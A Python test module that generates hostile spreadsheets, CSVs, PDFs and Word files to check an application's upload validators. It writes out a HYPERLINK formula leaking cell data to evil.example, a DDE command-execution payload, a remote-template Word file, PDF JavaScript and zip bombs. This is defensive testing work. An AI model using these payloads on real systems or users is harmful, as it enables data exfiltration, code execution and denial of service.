"""The hostile-file suite, generated (nothing binary is committed): ``hostile_files(path)``
returns {name: (file name, bytes)} for one upload path, each built on that path's normal
file ("import", "watchlist", "portal_workbook", "portal_document", "reference").

Workbooks: a cell at XFD1048576 or Z1000000, sparse cells at the last column, lying
<dimension> tags, formula and DDE cells, macro parts renamed (caught by content type or by
relationship), a zip bomb under the ratio and one over it, a flood of shared strings, more
values or more text than a table may keep. Also formula CSVs, PDFs that run JavaScript
(plain and hidden in a compressed stream), Word files with macros or a remote template,
and a Word file named .pdf. The clean file of each kind is in the suite too.

Each file is built when first asked for (``hostile_file(path, name)``) and kept; what the
upload paths' versions share (the rows of a big sheet, the zip bomb's padding) is made once.
"""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Callable
from functools import cache, lru_cache

from tests.xlsx_files import add_cell_xml, members, rewrite, set_dimension, workbook_bytes, zip_of

WORKBOOK_PATHS = ("import", "watchlist", "portal_workbook", "portal_document", "evidence")
PATHS = (*WORKBOOK_PATHS, "reference")


@lru_cache(maxsize=1)
def portal_blank() -> bytes:
    from chainproof.fileformats.questionnaire_workbook_build import build_workbook
    from tests.questionnaire_helpers import countries, strt

    questionnaire, layout = strt()
    return build_workbook(
        questionnaire,
        layout,
        countries=countries(),
        meta={"campaign": "1", "request": "REQ-1", "supplier": "S-1"},
        answers={"company_name": "Lotus Garment", "company_country": "VN"},
    )


def sheet_part(data: bytes, sheet: str) -> str:
    parts = members(data)
    book = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', book)
    rid = rid or re.search(rf'<sheet [^>]*r:id="([^"]+)"[^>]*name="{re.escape(sheet)}"', book)
    assert rid, sheet
    target = re.search(rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels) or re.search(
        rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels
    )
    name = target.group(1)
    return name.lstrip("/") if name.startswith("/") else f"xl/{name}"


def _base(path: str) -> tuple[bytes, str]:
    if path == "portal_workbook":
        data = portal_blank()
        return data, sheet_part(data, "Declaration")
    header = ["name", "country"] if path == "watchlist" else ["legal_name", "country"]
    title = "watchlist" if path == "watchlist" else "suppliers"
    rows = [header, ["Acme Textiles", "CN"], ["Borneo Rubber", "MY"], ["Cedar Mills", "IN"]]
    return workbook_bytes(rows, title=title), "xl/worksheets/sheet1.xml"


def _inline(ref: str, text: str = "x") -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _macro_renamed(data: bytes) -> bytes:
    """vbaProject.bin stored as xl/media/image9.png; the content types still say macros."""
    data = rewrite(
        data,
        "[Content_Types].xml",
        lambda xml: xml.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ).replace(
            "</Types>",
            '<Override PartName="/xl/media/image9.png" '
            'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
    )
    return _with(data, "xl/media/image9.png", b"\xd0\xcf\x11\xe0 macro project")


def _macro_by_relationship(data: bytes) -> bytes:
    """The part renamed and its content type made innocent: only the relationship remains."""
    data = rewrite(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda xml: xml.replace(
            "</Relationships>",
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="media/image9.png"/></Relationships>',
        ),
    )
    return _with(data, "xl/media/image9.png", b"\xd0\xcf\x11\xe0 macro project")


def _with(data: bytes, name: str, content: bytes) -> bytes:
    parts = members(data)
    parts[name] = content
    return zip_of(parts)


def _big_sheet(data: bytes, part: str, megabytes: int) -> bytes:
    """A sheet of ``megabytes`` MiB of small numeric cells (deflates about 15:1, well
    under the ratio), written part by part so the test itself stays small."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename != part:
                target.writestr(item.filename, source.read(item.filename))
                continue
            head, _, tail = source.read(part).decode().partition("</sheetData>")
            with target.open(part, "w") as handle:
                handle.write(head.encode())
                for chunk in _big_rows(megabytes):
                    handle.write(chunk)
                handle.write(b"</sheetData>" + tail.encode())
    return out.getvalue()


@cache
def _big_rows(megabytes: int) -> tuple[bytes, ...]:
    """The rows of ``_big_sheet`` from row 10 on, 10,000 to a chunk (the same for every
    upload path: made once)."""
    chunks: list[bytes] = []
    target_size = megabytes * 1024 * 1024
    written, row = 0, 10
    while written < target_size:
        chunk = "".join(
            f'<row r="{r}"><c r="A{r}"><v>{r * 7919 % 100003}</v></c></row>'
            for r in range(row, row + 10_000)
        ).encode()
        chunks.append(chunk)
        written += len(chunk)
        row += 10_000
    return tuple(chunks)


def _over_ratio(data: bytes) -> bytes:
    """The workbook with 600 MiB of zeros beside its parts (xl/media/padding.bin)."""
    out = io.BytesIO(_padding())
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, source.read(item.filename))
    return out.getvalue()


@cache
def _padding() -> bytes:
    """A zip of one part, xl/media/padding.bin: 600 MiB of zeros (deflated once, seconds;
    each workbook's parts are then added to a copy)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
        target.open("xl/media/padding.bin", "w") as handle,
    ):
        block = b"\0" * (1024 * 1024)
        for _ in range(600):
            handle.write(block)
    return out.getvalue()


@cache
def _flood_strings(count: int = 2_000_000) -> bytes:
    strings = "".join(f"<si><t>s{i}</t></si>" for i in range(count))
    return (
        '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main">{strings}</sst>'
    ).encode()


def _shared_flood(data: bytes, part: str) -> bytes:
    parts = members(data)
    parts["xl/sharedStrings.xml"] = _flood_strings()
    if "sharedStrings" not in parts["xl/_rels/workbook.xml.rels"].decode():
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        )
    parts[part] = parts[part].replace(
        b"</sheetData>", b'<row r="900"><c r="A900" t="s"><v>0</v></c></row></sheetData>'
    )
    return zip_of(parts)


def _many_values(data: bytes, part: str) -> bytes:
    return add_cell_xml(data, _many_rows(), part)


@cache
def _many_rows(rows: int = 52_600, columns: int = 20) -> str:
    letters = [chr(65 + i) for i in range(columns)]
    return "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{c}{r}"><v>{r + i}</v></c>' for i, c in enumerate(letters))
        + "</row>"
        for r in range(10, 10 + rows)
    )


def _long_text(data: bytes, part: str) -> bytes:
    cell = "Lorem ipsum dolor sit amet " * 1200  # 32,400 characters, under Excel's limit
    body = "".join(f'<row r="{r}">{_inline(f"A{r}", cell)}</row>' for r in range(10, 1_010))
    return add_cell_xml(data, body, part)


def _builders(path: str) -> dict[str, Callable[[bytes, str], bytes]]:
    """Each hostile workbook of a path, as a function of the path's normal workbook and
    its sheet's part."""
    sparse = "".join(f'<row r="{r}">{_inline(f"XFD{r}")}</row>' for r in range(500, 1_048_577, 524))
    return {
        "clean": lambda data, part: data,
        "cell_at_XFD1048576": lambda data, part: add_cell_xml(
            data, f'<row r="1048576">{_inline("XFD1048576")}</row>', part
        ),
        "cell_at_Z1000000": lambda data, part: add_cell_xml(
            data, f'<row r="1000000">{_inline("Z1000000")}</row>', part
        ),
        "sparse_max_cells": lambda data, part: add_cell_xml(data, sparse, part),
        "dimension_says_A1": lambda data, part: set_dimension(data, "A1", part),
        "dimension_says_XFD1048576": lambda data, part: set_dimension(data, "A1:XFD1048576", part),
        "formula_hyperlink": lambda data, part: add_cell_xml(
            data,
            '<row r="5"><c r="A5" t="str"><f>HYPERLINK("http://evil.example/?leak="&amp;B5,'
            '"Open")</f><v>Open</v></c></row>',
            part,
        ),
        "dde_command": lambda data, part: add_cell_xml(
            data, '<row r="5"><c r="A5"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row>', part
        ),
        "macro_part_renamed": lambda data, part: _macro_renamed(data),
        "macro_by_relationship": lambda data, part: _macro_by_relationship(data),
        "zip_bomb_under_ratio": lambda data, part: _big_sheet(data, part, 64),
        "zip_bomb_over_ratio": lambda data, part: _over_ratio(data),
        "shared_strings_flood": _shared_flood,
        "over_a_million_values": _many_values,
        "over_32M_characters": _long_text,
    }


WORKBOOK_NAMES = tuple(_builders("import"))


@cache
def workbook(path: str, name: str) -> bytes:
    """One hostile workbook built on ``path``'s normal workbook (built once, then kept)."""
    data, part = _base(path)
    return _builders(path)[name](data, part)


def workbooks(path: str) -> dict[str, bytes]:
    return {name: workbook(path, name) for name in WORKBOOK_NAMES}


# --- other documents --------------------------------------------------------------------


def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog " + body + b" >> endobj\ntrailer << >>\n%%EOF\n"


def pdf_hidden_js() -> bytes:
    """JavaScript inside a compressed object stream, its name hex-escaped."""
    hidden = zlib.compress(b"2 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj")
    return (
        b"%PDF-1.5\n3 0 obj << /Type /ObjStm /Filter /FlateDecode /Length "
        + str(len(hidden)).encode()
        + b" >>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def docx(main: str = "wordprocessingml.document.main+xml", rels: str = "") -> bytes:
    kind = (
        f"application/vnd.openxmlformats-officedocument.{main}"
        if "macroEnabled" not in main
        else main
    )
    return zip_of(
        {
            "[Content_Types].xml": (
                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                '2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                'relationships+xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
            ),
            "_rels/.rels": (
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                'Target="word/document.xml"/></Relationships>'
            ),
            "word/document.xml": (
                '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Policy</w:t></w:r></w:p>'
                "</w:body></w:document>"
            ),
            "word/_rels/settings.xml.rels": (
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                f'package/2006/relationships">{rels}</Relationships>'
            ),
        }
    )


def documents() -> dict[str, tuple[str, bytes]]:
    remote = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>'
    )
    return {
        "clean.csv": ("clean.csv", b"name,country\nAcme Textiles,CN\nMinus,-12.5\n"),
        "formula.csv": (
            "formula.csv",
            b'name,country\n"=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",CN\n',
        ),
        "dde.csv": ("dde.csv", b"name,country\n\"=cmd|' /C calc'!A0\",CN\n"),
        "clean.pdf": ("clean.pdf", pdf()),
        "javascript.pdf": ("javascript.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>")),
        "hidden_javascript.pdf": ("hidden_javascript.pdf", pdf_hidden_js()),
        "clean.docx": ("clean.docx", docx()),
        "macro.docx": (
            "macro.docx",
            docx("application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "remote_template.docx": ("remote_template.docx", docx(rels=remote)),
        "word_named_pdf": ("policy.pdf", docx()),
    }


def hostile_files(path: str) -> dict[str, tuple[str, bytes]]:
    """Every hostile file for one upload path: name -> (file name as uploaded, bytes)."""
    return {name: hostile_file(path, name) for name in hostile_names(path)}


def hostile_names(path: str) -> list[str]:
    """The names of ``hostile_files(path)``, without building any file."""
    return [*(WORKBOOK_NAMES if path in PATHS else ()), *documents()]


def hostile_file(path: str, name: str) -> tuple[str, bytes]:
    """One of ``hostile_files(path)``, built alone: (file name as uploaded, bytes)."""
    documents_ = documents()
    if name in documents_:
        return documents_[name]
    if path not in PATHS or name not in WORKBOOK_NAMES:
        raise KeyError((path, name))
    # A document or a reference file is not read by sheet: the import's workbooks serve.
    base = path if path in ("watchlist", "portal_workbook") else "import"
    return f"{name}.xlsx", workbook(base, name)
